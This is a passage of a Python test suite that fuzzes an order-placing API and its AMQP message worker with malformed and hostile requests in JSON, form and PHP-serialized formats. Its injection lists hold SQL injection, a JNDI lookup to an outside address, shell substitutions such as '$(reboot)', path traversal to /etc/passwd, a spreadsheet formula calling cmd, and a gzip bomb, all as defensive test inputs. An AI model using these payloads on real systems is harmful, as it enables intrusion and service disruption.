    ("a scalar beside its array", bare_form("pid=7&pid[0]=7"), ("parameter_repeated",)),
    ("an array beside its scalar", bare_form("pid[0]=7&pid=7"), ("parameter_repeated",)),
    ("an element given twice", bare_form("pid[0]=7&pid[0]=7"), ("parameter_repeated",)),
    ("an element and its own array", bare_form("pid[0]=7&pid[0][0]=7"), ("parameter_repeated", "value_expected")),
    (
        "one item under two spellings of its key",
        bare_form("pid[0]=7&pid[00]=1"),
        ("parameter_repeated", "item_key_invalid"),
    ),
    ("a key below nothing", bare_form("pid[-1]=7"), ("item_key_invalid",)),
    ("a key beyond all numbers", bare_form(f"pid[{10**30}]=7"), ("item_key_invalid",)),
    ("a key that is text", bare_form("pid[zero]=7"), ("item_key_invalid",)),
    ("a key with a space", bare_form("pid[+0]=7"), ("item_key_invalid",)),
    ("a key with SQL", bare_form("pid[0'+OR+1%3D1]=7"), ("item_key_invalid",)),
    ("a key of PHP's", bare_form("pid[__construct]=7"), ("item_key_invalid",)),
    ("an array in an element", bare_form("pid[0][0]=7"), ("value_expected",)),
    ("the next index behind the largest", bare_form("pid[999999999]=7&pid[]=7"), ("item_key_invalid",)),
    ("30,000 unknown names", lambda: as_form("".join(f"x{number}=1&" for number in range(30_000))), TOO_MANY),
    ("19,000 unknown names", lambda: as_form("".join(f"x{number}=1&" for number in range(19_000))), PLACED),
    (
        "19,000 keys of an unknown name",
        lambda: as_form("".join(f"x[k{number}]=1&" for number in range(19_000))),
        PLACED,
    ),
)

PHPS = cases(
    PHP,
    "php",
    ("an empty body", b"", UNKNOWN_CALLER),
    ("an empty array", b"a:0:{}", UNKNOWN_CALLER),
    ("a text", b's:8:"addorder";', MALFORMED),
    ("a number", b"i:7;", MALFORMED),
    ("nothing", b"N;", MALFORMED),
    ("JSON", as_json(), MALFORMED),
    ("a form", as_form(), MALFORMED),
    ("Python's pickle", pickle.dumps(ORDER), MALFORMED),
    ("a byte order mark", b"\xef\xbb\xbf" + as_php(), MALFORMED),
    ("UTF-16", as_php().decode().encode("utf-16-le"), MALFORMED),
    ("latin-1", raw_php(b's:5:"notes";s:4:"caf\xe9";'), MALFORMED),
    ("latin-1 in a name", raw_php(b's:4:"caf\xe9";i:1;'), MALFORMED),
    ("a NUL", raw_php(b's:5:"notes";s:1:"\0";'), MALFORMED),
    ("a NUL in a name", raw_php(b's:1:"\0";i:1;'), MALFORMED),
    ("the name of a private member", raw_php(b's:6:"\0A\0sec";i:1;'), MALFORMED),
    ("cut short", as_php()[:-2], MALFORMED),
    ("something behind it", as_php() + b"i:1;", MALFORMED),
    ("white space around it", b" \t" + as_php() + b"\r\n", PLACED),
    ("capitals", as_php().replace(b"a:5", b"A:5", 1), MALFORMED),
    ("an object", b'O:8:"stdClass":0:{}', MALFORMED),
    ("an object inside", raw_php(b's:5:"notes";O:8:"stdClass":0:{}'), MALFORMED),
    ("an object of its own format", raw_php(b's:5:"notes";C:4:"Evil":3:{abc}'), MALFORMED),
    ("an enumeration", raw_php(b's:5:"notes";E:7:"Foo:Bar";'), MALFORMED),
    ("a reference", raw_php(b's:5:"notes";R:2;'), MALFORMED),
    ("a reference to an object", raw_php(b's:5:"notes";r:1;'), MALFORMED),
    ("a length below nothing", raw_php(b's:5:"notes";s:-1:"abc";'), MALFORMED),
    ("a length of 10^30", raw_php(b's:5:"notes";s:1%s:"abc";' % (b"0" * 30)), MALFORMED),
    ("a length that is too short", raw_php(b's:5:"notes";s:1:"abc";'), MALFORMED),
    ("a length that is too long", raw_php(b's:5:"notes";s:30:"abc";'), MALFORMED),
    ("a count below nothing", b"a:-1:{}", MALFORMED),
    ("a count of 10^30", b"a:1%s:{}" % (b"0" * 30), MALFORMED),
    ("a count of 9,999,999", b"a:9999999:{i:0;i:0;}", MALFORMED),
    ("a count that is too small", as_php().replace(b"a:5", b"a:4", 1), MALFORMED),
    ("a count that is too large", as_php().replace(b"a:5", b"a:6", 1), MALFORMED),
    ("a number of 10^30", raw_php(b's:5:"affid";i:1%s;' % (b"0" * 30)), MALFORMED),
    ("a number of 5,000 digits", raw_php(b's:5:"affid";i:%s;' % (b"9" * 5_000)), MALFORMED),
    ("a number beyond 64 bits", raw_php(b's:5:"affid";i:9223372036854775808;'), MALFORMED),
    ("NaN", raw_php(b's:13:"priceoverride";d:NAN;'), MALFORMED),
    ("Infinity", raw_php(b's:13:"priceoverride";d:INF;'), MALFORMED),
    ("a float that becomes infinite", raw_php(b's:13:"priceoverride";d:1E999;'), ("amount_invalid", "malformed")),
    ("a float with an exponent of a million", raw_php(b's:13:"priceoverride";d:1E1000000;'), MALFORMED),
    ("an array for a key", raw_php(b"a:0:{}i:1;"), MALFORMED),
    ("nothing for a key", raw_php(b"N;i:1;"), MALFORMED),
    ("a boolean for a key", raw_php(b"b:1;i:1;"), MALFORMED),
    ("more ends than beginnings", as_php() + b"}", MALFORMED),
    ("100,000 levels", lambda: raw_php(b's:3:"pid";' + b"a:1:{i:0;" * 100_000), MALFORMED),
    ("8 levels", raw_php(b's:5:"notes";' + b"a:1:{i:0;" * 8 + b"N;" + b"}" * 8), MALFORMED),
    ("a client given twice", raw_php(b's:8:"ClientID";i:1;'), ("parameter_repeated",)),
    (
        "19,000 keys whose last bits are the same",
        lambda: raw_php(b"".join(b"i:%d;i:1;" % (k << 46) for k in range(1, 19_001)), 19_000),
        PLACED,
    ),
    (
        "80,000 products",
        lambda: raw_php(b's:3:"pid";a:80000:{' + b"".join(b"i:%d;i:7;" % k for k in range(80_000)) + b"}"),
        ("malformed",),
    ),
    (
        "half a megabyte of text",
        lambda: raw_php(b's:5:"notes";s:500000:"' + b"x" * 500_000 + b'";'),
        ("text_too_long",),
    ),
)

AUTHENTICATION = [
    *cases(
        JSON,
        "caller",
        ("no credentials", json.dumps(ORDER).encode(), UNKNOWN_CALLER),
        ("a wrong secret", as_json(secret=HUSH), UNKNOWN_CALLER),
        ("an identifier that is nobody's", as_json(identifier=HUSH), UNKNOWN_CALLER),
        ("an identifier alone", as_json(secret=None), UNKNOWN_CALLER),
        ("a secret alone", as_json(identifier=None, secret=HUSH), UNKNOWN_CALLER),
        ("empty credentials", as_json(identifier="", secret=""), UNKNOWN_CALLER),
        ("a secret that is a list", as_json(secret=[HUSH]), UNKNOWN_CALLER),
        ("a secret that is a map", as_json(secret={"$ne": HUSH}), UNKNOWN_CALLER),
        ("a secret that is true", as_json(secret=True), UNKNOWN_CALLER),
        ("a secret given twice", raw_json(f'"secret": "{HUSH}"'), UNKNOWN_CALLER),
        ("a secret of a megabyte", lambda: as_json(secret=HUSH * 80_000), UNKNOWN_CALLER),
        ("an identifier of a megabyte", lambda: as_json(identifier=HUSH * 80_000), UNKNOWN_CALLER),
        ("an identifier with SQL", as_json(identifier="IDENT' --", secret=HUSH), UNKNOWN_CALLER),
        ("an identifier with a star", as_json(identifier="*", secret=HUSH), UNKNOWN_CALLER),
        ("a stolen hash for a secret", as_json(secret=f"$argon2id$v=19$m=65536,t=3,p=4${HUSH}$x"), UNKNOWN_CALLER),
        ("a credential without the right", as_json(identifier="NOPERM"), ("permission_denied",)),
        ("an action that is a list", as_json(action=["addorder"]), ("unknown_action",)),
        ("an action that is a map", as_json(action={"0": "addorder"}), ("unknown_action",)),
        ("another action", as_json(action="deleteorder"), ("unknown_action",)),
        ("an action with SQL", as_json(action="addorder; DROP TABLE orders"), ("unknown_action",)),
        ("an action of a megabyte", lambda: as_json(action="addorder" * 100_000), ("unknown_action",)),
        ("an administrator of half a megabyte", lambda: as_json(adminuser="x" * 500_000), ("text_too_long",)),
    ),
    *(
        Case(id=f"trusted caller: {name}", body=body, codes=codes, by_storefront=True)
        for name, body, codes in (
            (
                "wrong credentials all the same",
                json.dumps({**ORDER, "username": "x", "password": HUSH}).encode(),
                UNKNOWN_CALLER,
            ),
            ("a password alone", json.dumps({**ORDER, "password": HUSH}).encode(), UNKNOWN_CALLER),
            ("a password that is a list", json.dumps({**ORDER, "password": [HUSH]}).encode(), UNKNOWN_CALLER),
            ("empty credentials", json.dumps({**ORDER, "username": "", "password": ""}).encode(), PLACED),
            ("an empty object", b"{}", ("parameter_missing",)),
            ("nothing", b"", UNKNOWN_CALLER),
            (
                "an administrator that is a list",
                json.dumps({**ORDER, "adminuser": ["x"]}).encode(),
                ("value_expected",),
            ),
            (
                "an administrator with SQL",
                json.dumps({**ORDER, "adminuser": "x'; DROP TABLE orders; --"}).encode(),
                PLACED,
            ),
        )
    ),
]

INJECTIONS = cases(
    JSON,
    "injection",
    ("SQL in notes", as_json(notes="'; DROP TABLE orders; --"), PLACED),
    ("dollar quotes in notes", as_json(notes="$$; DROP TABLE orders; $$ $1 %s %(x)s :x ?"), PLACED),
    ("templates in notes", as_json(notes="{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {0.__class__.__mro__} %n%n"), PLACED),
    ("a look-up in notes", as_json(notes="${jndi:ldap://192.0.2.7/x}"), PLACED),
    ("markup in notes", as_json(notes="<script>alert(1)</script>]]><!--"), PLACED),
    ("a terminal's commands in notes", as_json(notes="\x1b]0;owned\x07\x1b[2J\x9b31m"), PLACED),
    ("a line of a log in notes", as_json(notes='x\n{"event": "order.placed"}\r\n'), PLACED),
    ("SQL in a promotion code", as_json(promocode="' OR '1'='1"), PLACED),
    ("markup in a promotion code, for XML", as_json(promocode="<&>]]>\"'", responsetype="xml"), PLACED),
    (
        "no characters in a promotion code, for XML",
        as_json(promocode="\x01\x0b\ufffe\uffff", responsetype="xml"),
        PLACED,
    ),
    (
        "separators in a promotion code, for name-value pairs",
        as_json(promocode="x;result=error;\r\n", responsetype="nvp"),
        PLACED,
    ),
    ("a field of markup, for XML", as_json(customfields={"</warning><x>": "y"}, responsetype="xml"), PLACED),
    ("a field that breaks a pair", as_json(customfields={"1;orderid=9;": "y"}, responsetype="nvp"), PLACED),
    (
        "a domain to renew with markup, for XML",
        as_json(domainrenewals={"<b>\uffff.com": 1}, responsetype="xml"),
        ("domain_not_owned", "domain_invalid"),
    ),
    (
        "a domain to renew that breaks a pair",
        as_json(domainrenewals={"a;result=success;.com\r": 1}, responsetype="nvp"),
        ("domain_not_owned", "domain_invalid"),
    ),
    (
        "a path for a name server",
        as_json(pid=None, domain="paths.com", domaintype="register", nameserver1="../../etc/passwd"),
        ("domain_invalid", "nameserver_invalid", "placed"),
    ),
    ("a shell in a prefix", as_json(ns1prefix="$(reboot)", ns2prefix="`id`"), PLACED),
    ("a formula in a field", as_json(pid=1, customfields={"1": "=cmd|' /C calc'!A0"}), PLACED),
)

# Every parameter at once, with something nobody may see again in the place of its value.
HUSHED = dict.fromkeys(AddOrderRequest.model_fields, HUSH)
SECRET_FIELDS = {"username": HUSH, "password": HUSH, "accesskey": HUSH, "adminuser": HUSH}
SECRETS = [
    *cases(
        JSON,
        "secrets",
        ("in every parameter", as_json(**HUSHED), ("number_invalid", "responsetype_invalid")),
        ("in a list in every parameter", as_json(**{name: [HUSH] for name in HUSHED}), ("value_expected",)),
        ("in a map in every parameter", as_json(**{name: {"0": HUSH} for name in HUSHED}), ("value_expected",)),
        ("in a list in a list in every parameter", as_json(**{name: [[HUSH]] for name in HUSHED}), ("value_expected",)),
        (
            "in every serialized value",
            as_json(
                pid=1,
                **dict.fromkeys(
                    ("customfields", "configoptions", "domainfields"), packed(f'a:1:{{s:11:"{HUSH}";O:1:"A"')
                ),
            ),
            SERIALIZED,
        ),
        ("in a body cut short", as_json(secret=HUSH, rootpw=HUSH)[:-1], MALFORMED),
        (
            "in an order that is placed",
            as_json(rootpw=HUSH, hostname="hush.example", accesskey=HUSH, notes=HUSH, ns1prefix=HUSH),
            PLACED,
        ),
        (
            "in a transfer that is placed",
            as_json(pid=None, domain="transfer-me.com", domaintype="transfer", eppcode=HUSH),
            PLACED,
        ),
        (
            "in a transfer that is refused",
            as_json(pid=None, domain="transfer-me.example", domaintype="transfer", eppcode=HUSH),
            ("unknown_tld",),
        ),
        (
            "in a code that is too long",
            as_json(domain="transfer-me.com", domaintype="transfer", eppcode=HUSH * 30),
            ("text_too_long",),
        ),
        ("in an action", as_json(action=HUSH), ("unknown_action",)),
    ),
    *cases(
        FORM,
        "secrets in a form",
        ("in every parameter", as_form(urlencode(HUSHED)), ("parameter_repeated",)),
        ("in the credentials, twice", as_form(urlencode({**SECRET_FIELDS, "secret": HUSH})), UNKNOWN_CALLER),
        ("where the body cannot be read", as_form(f"password={HUSH}&notes=%FF"), MALFORMED),
    ),
    *cases(
        PHP,
        "secrets in PHP",
        ("in every parameter", as_php(**HUSHED), ("number_invalid", "responsetype_invalid")),
        ("in an object", raw_php(b's:6:"rootpw";O:11:"%s":0:{}' % HUSH.encode()), MALFORMED),
    ),
]

CONTENT_TYPES = [
    Case(id=f"content type: {name}", body=body, codes=codes, content_type=content_type)
    for name, content_type, body, codes in (
        ("plain text", "text/plain", as_json(), PLACED),
        ("a form of a client's default", "application/octet-stream", as_form(), PLACED),
        ("PHP as data", "application/data", as_php(), PLACED),
        ("an empty one", "", as_form(), PLACED),
        ("XML", "application/xml", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>', MALFORMED),
        ("a form with files", "multipart/form-data; boundary=x", as_form(), MALFORMED),
        ("JSON lines", "application/jsonlines", as_json(), MALFORMED),
        ("JSON with a suffix", "application/json-patch+json", as_json(), MALFORMED),
        ("two types", "application/json, application/json", as_json(), MALFORMED),
        ("255 letters", "x" * 255, as_json(), MALFORMED),
        ("only a parameter", "; charset=utf-8", as_json(), PLACED),
        ("a NUL", "application/json\0", as_json(), MALFORMED),
        ("line breaks", "application/json\r\nX: y", as_json(), MALFORMED),
        ("none, with a form", None, as_form(), PLACED),
        ("none, with PHP", None, as_php(), PLACED),
        ("none, with nothing", None, b"", UNKNOWN_CALLER),
        ("none, with JSON", None, b" \n" + as_json(), PLACED),
        ("odd capitals and spaces", " Application/JSON ; Charset=UTF-8", as_json(), PLACED),
        ("a parameter that is nonsense", "application/x-www-form-urlencoded;;;=;charset", as_form(), PLACED),
    )
]

SIZES = [
    *cases(
        JSON,
        "size",
        ("a byte too many", lambda: padded(as_json(), REQUEST_BYTES_MAX + 1), ("request_too_large",)),
        ("not a byte too many", lambda: padded(as_json(), REQUEST_BYTES_MAX), PLACED),
        ("8 MiB", lambda: padded(as_json(secret=HUSH), 8 * 2**20), ("request_too_large",)),
        ("a megabyte of spaces", lambda: b" " * 1_000_000, UNKNOWN_CALLER),
        ("a megabyte of escapes", lambda: raw_json('"x": "' + "\\u0041" * 160_000 + '"'), PLACED),
    ),
    *cases(
        FORM,
        "size of a form",
        ("a byte too many", lambda: as_form().ljust(REQUEST_BYTES_MAX + 1, b"&"), ("request_too_large",)),
    ),
    *cases(
        PHP, "size of PHP", ("a byte too many", lambda: as_php().ljust(REQUEST_BYTES_MAX + 1), ("request_too_large",))
    ),
]

GOOD, BAD = as_json(), as_json(paymentmethod="bitcoin")
NO_METHOD = ("invalid_payment_method",)
READABLE = ("placed", *NO_METHOD, "message_id_invalid", "malformed")  # or what it is taken for, where it is not

# Each is sent with a good order and with one that is refused: only that one is copied, headers and all.
PROPERTIES: dict[str, dict[str, bytes]] = {
    "priority 255": {"priority": b"\xff"},
    "an expiration in a month": {"expiration": short("2592000000")},
    "a time of nothing": {"timestamp": moment(0)},
    "a time in milliseconds": {"timestamp": moment(1_700_000_000_000)},
    "a type of 255 letters": {"type": short("t" * 255)},
    "an app_id of NULs": {"app_id": short("\0" * 255)},
    "a cluster_id": {"cluster_id": short("x")},
    "not persistent": {"delivery_mode": b"\x01"},
    "a correlation_id of 255 letters": {"correlation_id": short("\u20ac" * 85)},
    "a correlation_id with a NUL": {"correlation_id": short("\0")},
    "no correlation_id": {"correlation_id": b""},
    "nowhere to reply to": {"reply_to": b""},
    "a reply_to that is gone": {"reply_to": short("nobody-listens-here")},
    "a reply_to of 255 letters": {"reply_to": short("r" * 255)},
    "a reply_to with a NUL": {"reply_to": short("a\0b")},
    "a reply_to of our requests": {"reply_to": short("orders.requests")},
    "a reply_to of our dead letters": {"reply_to": short("orders.dead")},
    "a reply_to of our follow-ups": {"reply_to": short("orders.email.order-confirmation")},
    "a direct reply_to of nothing": {"reply_to": short("amq.rabbitmq.reply-to.")},
}

HEADERS: dict[str, bytes] = {
    "100 kB in one": table({"a": text("x" * 100_000)}),
    "131 kB in one": table({"a": text("x" * 130_700)}),
    "9,000 of them": table({f"h{number}": text("v") for number in range(9_000)}),
    "1,000 with emoji for names": table({"\U0001f4a9" * 20 + str(number): text("v") for number in range(1_000)}),
    "one twice": struct.pack(">I", 16) + (short("a") + text("x")) * 2,
    "one with no name": table({"": text("x")}),
    "one with a name of NULs": table({"\0\0": text("x\0")}),
    "tables 100 deep": table({"a": tables(100)}),
    "arrays 100 deep": table({"a": arrays(100)}),
    "an array of 20,000 numbers": table({"a": array(*[number(2**62)] * 10_000)}),
    "bytes": table({"a": b"x" + struct.pack(">I", 3) + b"\xff\0\x01"}),
    "a decimal with 255 decimals": table({"a": b"D\xff" + struct.pack(">I", 7)}),
    "a decimal beyond its size": table({"a": b"D\x02\xff\xff\xff\xff"}),
    "a float": table({"a": double(0.1)}),
    "the smallest number": table({"a": number(-(2**63))}),
    "nothing, true and a time": table({"a": b"V", "b": b"t\x02", "c": b"T" + moment(1_700_000_000)}),
    "attempts that are a word": table({"x-orders-attempts": text("many")}),
    "attempts beyond all": table({"x-orders-attempts": number(2**62)}),
    "attempts below nothing": table({"x-orders-attempts": number(-(2**63))}),
    "replays below nothing": table({"x-orders-replays": number(-1)}),
    "replays beyond all": table({"x-orders-replays": number(2**63 - 1)}),
    "replays that are true": table({"x-orders-replays": b"t\x01"}),
    "a first sight that is a table": table({"x-orders-first-seen": b"F" + table({"a": b"V"})}),
    "a first sight of 100 kB": table({"x-orders-first-seen": text("x" * 100_000)}),
    "a reason of their own": table(
        {"x-orders-reason": text("failed"), "x-orders-code": array(), "x-orders-more": b"V"}
    ),
    "a routing key of their own": table({"x-orders-routing-key": text("orders.events")}),
    "an id that they replace, and is none": table({"x-orders-supersedes": array(number(1))}),
    "a count of deliveries of their own": table({"x-delivery-count": number(2**40)}),
    "a count of deliveries that is a word": table({"x-delivery-count": text("many"), "x-acquired-count": b"V"}),
    "a death of their own": table({"x-death": text("never"), "x-first-death-queue": number(7)}),
    "more addressees": table({"CC": array(text("order.add"), text("order.added"), text("orders.dead"))}),
    "hidden addressees": table({"BCC": array(text("order.add"), text("orders.events"))}),
    "a trace that is garbage": table({"traceparent": text("00-" + "zz" * 16)}),
    "a trace of 100 kB": table({"traceparent": text("0" * 100_000)}),
    "a trace that is a list": table({"traceparent": array(text("00"))}),
    "a trace with a line break": table({"traceparent": text(f"00-{'ab' * 16}-{'cd' * 8}-01\n")}),
    "the broker's own": table({"x-stream-offset": number(1), "x-opt-delivery-time": text("x"), "deaths": array()}),
}

MESSAGES = [
    *(
        Case(id=f"property: {name}, {ending}", body=body, codes=codes, properties=properties)
        for name, properties in PROPERTIES.items()
        for ending, body, codes in (("placed", GOOD, PLACED), ("refused", BAD, NO_METHOD))
    ),
    Case(
        id="headers: an id that they replace",
        body=GOOD,
        codes=PLACED,
        headers=table({"x-orders-supersedes": array(text("x"))}),
    ),
    Case(
        id="headers: a publisher says that it replaces another",
        body=GOOD,
        codes=PLACED,
        headers=table({"x-orders-supersedes": array(text("x"))}),
    ),
    *(
        Case(id=f"headers: {name}, {ending}", body=body, codes=codes, headers=headers)
        for name, headers in HEADERS.items()
        for ending, body, codes in (("placed", GOOD, PLACED), ("refused", BAD, NO_METHOD))
    ),
    Case(
        id="headers: a mark of ours that they cannot be read",
        body=BAD,
        codes=READABLE,
        headers=table({"x-orders-unreadable": number(1)}),
    ),
    *(
        Case(id=f"message_id: {name}", body=body, codes=codes, properties={"message_id": message_id})
        for name, message_id, body, codes in (
            ("none", b"", GOOD, ("message_id_missing",)),
            ("none, and a byte too many", b"", lambda: padded(GOOD, REQUEST_BYTES_MAX + 1), ("request_too_large",)),
            ("none, and not to be read", b"", b"{", MALFORMED),
            ("none, and nobody", b"", json.dumps(ORDER).encode(), ("message_id_missing",)),
            ("an empty one", short(""), GOOD, ("message_id_missing",)),
            ("129 characters", short("m" * 129), GOOD, ("message_id_invalid",)),
            ("255 characters", short("m" * 255), GOOD, ("message_id_invalid",)),
            ("128 characters", short("n" * 128), GOOD, PLACED),
            ("a NUL", short("a\0b"), GOOD, ("message_id_invalid",)),
            ("63 emoji", short("\U0001f4a9" * 63), GOOD, PLACED),
            ("spaces", short("   "), GOOD, PLACED),
            ("line breaks", short("a\r\nb\u2028"), GOOD, PLACED),
            ("from right to left", short("\u202eabc"), GOOD, PLACED),
            ("SQL", short("'; DROP TABLE inbox; --"), GOOD, PLACED),
            ("a template", short("{{7*7}}${7*7}%s"), GOOD, PLACED),
            ("a terminal's commands", short("\x1b[2J\x07"), GOOD, PLACED),
        )
    ),
    *(
        Case(
            id=f"content_encoding: {name}", body=body, codes=MALFORMED, properties={"content_encoding": short(encoding)}
        )
        for name, encoding, body in (
            ("gzip", "gzip", gzip.compress(as_json(), mtime=0)),
            ("gzip that is a bomb", "gzip", lambda: gzip.compress(b" " * 50_000_000, 1, mtime=0)),
            ("gzip that is none", "gzip", as_json()),
            ("deflate", "deflate", as_json()),
            ("brotli in gzip", "br, gzip", as_json()),
            ("255 letters", "x" * 255, as_json()),
        )
    ),
    *(
        Case(
            id=f"content_encoding: {encoding}",
            body=as_json(),
            codes=PLACED,
            properties={"content_encoding": short(encoding)},
        )
        for encoding in ("identity", "UTF-8", "utf8", "binary", "Binary", "8bit", "7bit", "us-ascii", " utf-8 ")
    ),
]

# What the broker should not let pass in the first place.
REFUSED_BY_THE_BROKER: dict[str, dict[str, bytes]] = {
    "a delivery mode of 3": {"delivery_mode": b"\3"},
    "a delivery mode of 0": {"delivery_mode": b"\0"},
    "an expiration that is a word": {"expiration": short("never")},
    "an expiration below nothing": {"expiration": short("-1")},
    "a direct reply_to nobody listens at": {"reply_to": short("amq.rabbitmq.reply-to")},
    "addressees in a text": {"headers": table({"CC": text("order.add")})},
    "a header of an unknown kind": {"headers": table({"a": b"Z"})},
    "a header that is NaN": {"headers": table({"a": double(float("nan"))})},
    "headers that are longer than they say": {"headers": b"\0\0\0\1" + short("a") + b"V"},
}

REFUSALS = [
    Case(id=f"broker: {name}", body=BAD, codes=NO_METHOD, properties=properties, may_be_refused=True)
    for name, properties in REFUSED_BY_THE_BROKER.items()
]

CASES = [
    *JSON_TEXT,
    *JSON_SYNTAX,
    *JSON_VALUES,
    *JSON_ITEMS,
    *DOMAINS,
    *SERIALIZED_VALUES,
    *FORMS,
    *PHPS,
    *AUTHENTICATION,
    *INJECTIONS,
    *SECRETS,
    *CONTENT_TYPES,
    *SIZES,
    *MESSAGES,
    *REFUSALS,
]

# Each of these has been seen to take the worker with it, its connection or its time, so each has a worker of its own.
FORGED = Case(
    id="alone: a forged direct reply_to",
    body=GOOD,
    codes=PLACED,
    properties={"reply_to": short("amq.rabbitmq.reply-to.g1hkAA5mb3JnZWRAbm93aGVyZQ==.x")},
)
ALONE = [
    *(
        Case(id=f"alone: {name}", body=BAD, codes=READABLE, headers=table({"a": value}), is_garbled=True)
        for name, value in (
            ("a header that is no UTF-8", text(b"caf\xe9")),
            ("a header that is no UTF-8, in a list", array(text(b"\xff"))),
            ("a header with a time beyond all years", b"T" + moment(2**64 - 1)),
            ("a header with tables 5,000 deep", tables(5_000)),
            ("a header with arrays 5,000 deep", arrays(5_000)),
        )
    ),
    Case(
        id="alone: a header beyond single precision",
        body=BAD,
        codes=NO_METHOD,
        headers=table({"a": double(1e300)}),
    ),
    Case(
        id="alone: a header with a name of 255 letters",
        body=BAD,
        codes=NO_METHOD,
        headers=table({"k" * 255: text("x")}),
    ),
    Case(
        id="alone: a header whose name is no UTF-8",
        body=BAD,
        codes=READABLE,
        headers=table({b"\xff": text("x")}),
        is_garbled=True,
    ),
    *(
        Case(
            id=f"alone: {name} that is no UTF-8",
            body=BAD,
            codes=READABLE,
            properties={name: short(b"caf\xe9")},
            is_garbled=True,
        )
        for name in ("content_type", "content_encoding", "correlation_id", "reply_to", "message_id", "type", "app_id")
    ),
    *(
        Case(
            id=f"alone: a time {name}",
            body=BAD,
            codes=READABLE,
            properties={"timestamp": moment(time)},
            is_garbled=True,
        )
        for name, time in (("beyond all years", 2**64 - 1), ("in the year 10000", 253_402_300_800_000))
    ),
    FORGED,
    *cases(
        FORM,
        "alone: form",
        ("a name given 150,000 times", lambda: as_form(b"pid=7&" * 150_000), TOO_MANY),
        ("a client given 19,000 times", lambda: as_form(b"clientid=1&" * 19_000), ("parameter_repeated",)),
        ("an element given 19,000 times", lambda: bare_form(b"pid[0]=7&" * 19_000), ("parameter_repeated",)),
        ("a bracketed unknown name given 19,000 times", lambda: as_form(b"x[a]=1&" * 19_000), PLACED),
        ("a bracketed unknown name given 140,000 times", lambda: as_form(b"x[a]=1&" * 140_000), TOO_MANY),
    ),
    *cases(
        JSON,
        "alone: json",
        (
            "a name given 19,000 times",
            lambda: as_json(x=[0]).replace(b"[0]", b'{"a":1' + b',"a":1' * 18_999 + b"}"),
            PLACED,
        ),
    ),
]


# ---------------------------------------------------------------- the publisher

FRAME_BYTES_MAX = 131_072  # what RabbitMQ proposes, and the most that it takes
CHANNELS_MAX = 1
CHANNEL = 1
HEADER, BODY = 2, 3  # kinds of frames
SECONDS_MAX = 20.0

# AMQP 0-9-1's properties in the order of the wire; the first has the highest flag.
NAMES = (
    "content_type",
    "content_encoding",
    "headers",
    "delivery_mode",
    "priority",
    "correlation_id",
    "reply_to",
    "expiration",
    "message_id",
    "timestamp",
    "type",
    "user_id",
    "app_id",
    "cluster_id",
)


class Refused(Exception):
    """The broker closed the connection or channel rather than take the message."""


async def publish(url: str, body: bytes, properties: Mapping[str, bytes], routing_key: str) -> None:
    """Publish to `orders`, with properties written by hand, and wait for the confirm.

    Raises:
        Refused: the broker would not have it.
    """
    address = urlsplit(url)
    reader, writer = await asyncio.open_connection(address.hostname, address.port or 5672)
    try:
        async with asyncio.timeout(SECONDS_MAX):
            await _Conversation(reader, writer).publish(url, body, properties, routing_key)
    finally:
        writer.close()


class _Conversation:
    """Just enough of AMQP for one message."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer

    async def publish(self, url: str, body: bytes, properties: Mapping[str, bytes], routing_key: str) -> None:
        address = urlsplit(url)
        login = f"\0{unquote(address.username or 'guest')}\0{unquote(address.password or 'guest')}"
        self._writer.write(b"AMQP\x00\x00\x09\x01")
        await self._hear(commands.Connection.Start)
        self._say(commands.Connection.StartOk({}, "PLAIN", login, "en_US"), 0)
        await self._hear(commands.Connection.Tune)
        self._say(commands.Connection.TuneOk(CHANNELS_MAX, FRAME_BYTES_MAX, 0), 0)
        self._say(commands.Connection.Open(unquote(address.path[1:]) or "/"), 0)
        await self._hear(commands.Connection.OpenOk)
        self._say(commands.Channel.Open(), CHANNEL)
        await self._hear(commands.Channel.OpenOk)
        self._say(commands.Confirm.Select(), CHANNEL)
        await self._hear(commands.Confirm.SelectOk)
        self._say(commands.Basic.Publish(0, "orders", routing_key), CHANNEL)
        self._send(HEADER, _header(body, properties))
        for start in range(0, len(body), FRAME_BYTES_MAX - 8):
            self._send(BODY, body[start : start + FRAME_BYTES_MAX - 8])
        await self._hear(commands.Basic.Ack)

    def _say(self, frame: Frame, channel: int) -> None:
        self._writer.write(pamqp.frame.marshal(frame, channel))

    def _send(self, kind: int, payload: bytes) -> None:
        self._writer.write(struct.pack(">BHI", kind, CHANNEL, len(payload)) + payload + b"\xce")

    async def _hear(self, expected: type[Frame]) -> None:
        start = await self._reader.readexactly(7)
        length = struct.unpack(">BHI", start)[2]
        frame = pamqp.frame.unmarshal(start + await self._reader.readexactly(length + 1))[2]
        if isinstance(frame, commands.Channel.Close | commands.Connection.Close):
            raise Refused(frame.reply_text)
        assert isinstance(frame, expected), frame


def _header(body: bytes, properties: Mapping[str, bytes]) -> bytes:
    sent = {name: properties[name] for name in NAMES if properties.get(name)}
    flags = sum(1 << (15 - NAMES.index(name)) for name in sent)
    return struct.pack(">HHQH", commands.Basic.frame_id, 0, len(body), flags) + b"".join(sent.values())
